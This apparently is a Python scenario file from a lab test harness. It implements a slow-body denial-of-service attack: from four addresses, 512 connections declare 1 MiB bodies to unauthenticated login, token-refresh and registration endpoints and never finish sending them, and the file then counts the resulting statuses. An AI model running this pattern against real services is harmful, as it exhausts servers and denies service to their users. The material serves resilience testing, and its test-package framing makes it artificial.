"""Bodies of 1 MiB that never end, to paths that take bodies without an account."""
import time

from lab import client
from lab.system import GATEWAY

from .crowd import counted, together

TITLE = "512 bodies of 1 MiB from four addresses without an account"
SECONDS = 30
SIZE = 1024 * 1024
# As many as the limits of an address let in: sign-on, refresh, TMService's registration.
PATHS = ["/api/user"] * 30 + ["/api/user/token/refresh"] * 60 + ["/user/register/"] * 38


def prepare(system):
    return {}


def attack(system, state):
    end = time.monotonic() + SECONDS - 10

    def send(number):
        path, address = PATHS[number // 4], system.address(number % 4 + 1)
        try:
            with client.raw(GATEWAY, address, timeout=15) as server:
                server.sendall(client.head("POST", path, Content_Type="application/json", Content_Length=SIZE))
                server.sendall(b'{"username": "' + b"a" * (SIZE - 100))
                server.settimeout(max(1, end - time.monotonic()))
                return int(server.recv(4096).split(b" ")[1])
        except (OSError, IndexError, ValueError):
            return 0
    state["statuses"] = together(send, range(512))


def judge(system, state):
    return counted(state["statuses"]), []
